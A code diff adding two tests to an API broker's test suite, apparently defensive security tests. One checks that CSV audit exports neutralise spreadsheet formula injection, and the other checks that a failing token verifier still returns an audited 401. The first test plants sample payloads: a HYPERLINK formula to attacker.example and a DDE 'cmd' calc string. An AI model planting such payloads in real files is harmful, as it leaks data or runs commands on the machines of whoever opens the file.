@@ -7,7 +7,7 @@ import asyncio
 import csv
 import io
 import json
-from datetime import timedelta
+from datetime import datetime, timedelta
 from pathlib import Path
 from typing import Any
 
@@ -546,3 +546,48 @@ async def test_stalled_headers_are_closed(env: DemoEnvironment, tmp_path: Path) 
         assert await stalled(broker, b"GET /v1/agreements HTTP/1.1\r\nHo") == b""
     finally:
         await broker.stop()
+
+
+async def test_audit_csv_export_neutralises_a_fullwidth_formula_planted_in_a_feed_path(broker: Broker) -> None:
+    # The attack end to end: an analyst asks for the feed of a "consumer" whose id is a formula
+    # after a space, in fullwidth signs; the refusal is audited with that consumer; the IG lead
+    # exports the audit trail as CSV and opens it in a spreadsheet.
+    from urllib.parse import quote
+
+    planted = [
+        '＝HYPERLINK("https://attacker.example/?leak","open me")',
+        " ＋cmd|' /C calc'!A0",
+        "\t－1+1",
+        "＠SUM(A1)",
+    ]
+    analyst = token(broker, "analyst", "derby-csp-analysts")
+    for value in planted:
+        status, _, _ = await get(broker, f"/v1/feeds/{quote(value, safe='')}/records", analyst)
+        assert status == 403, value
+    status, text, _ = await get(broker, "/v1/audit/export", token(broker, "ig", sub="ig-lead"), format="csv")
+    assert status == 200
+    rows = list(csv.reader(io.StringIO(text)))
+    for value in planted:
+        assert ["'" + value] == [cell for row in rows for cell in row if value in cell], value
+    assert all(not spreadsheet_reads_a_formula(cell) for row in rows for cell in row)
+
+
+async def test_a_token_that_breaks_the_verifier_is_still_a_401_and_audited(broker: Broker) -> None:
+    # Defence in depth behind the strict claim checks: whatever a token makes the verifier's code
+    # raise, the answer is a 401 with an access_denied entry, never a 500. The verifier is real; its
+    # clock is made to fail, the way an unforeseen claim value made datetime fail (exp 1e300).
+    def broken_clock() -> datetime:
+        raise OverflowError("date value out of range")
+
+    assert broker.access is not None
+    verifier = broker.access.verifier
+    original = verifier._clock
+    verifier._clock = broken_clock
+    try:
+        status, body, headers = await get(broker, "/v1/agreements", token(broker, "ig"))
+    finally:
+        verifier._clock = original
+    assert status == 401
+    assert body["reason"] == "token_malformed"
+    assert headers["WWW-Authenticate"].startswith("Bearer")
+    assert audit_entries(db(broker), "access_denied")[-1]["reason"] == "token_malformed"
